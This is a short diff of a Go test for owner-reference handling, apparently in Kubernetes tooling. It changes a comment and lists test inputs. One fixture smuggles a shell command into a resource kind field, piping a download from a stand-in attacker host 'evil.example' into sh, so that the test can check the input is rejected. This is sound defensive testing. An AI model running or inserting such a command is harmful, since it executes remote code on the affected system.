@@ -98,7 +98,7 @@ func TestOwnersThatGoRoundInACircleComeToAnEnd(t *testing.T) {
 	}
 }
 
-// A shell, and a terminal, obey what they are shown.
+// A shell, and a terminal, obey their input.
 func TestAnOwnerThatNoAPIServerServesIsNoOwner(t *testing.T) {
 	for name, reference := range map[string]metav1.OwnerReference{
 		"a kind that is a command":     {APIVersion: "e.example/v1", Kind: "Pod -n shop a; curl evil.example|sh #", Name: "x"},
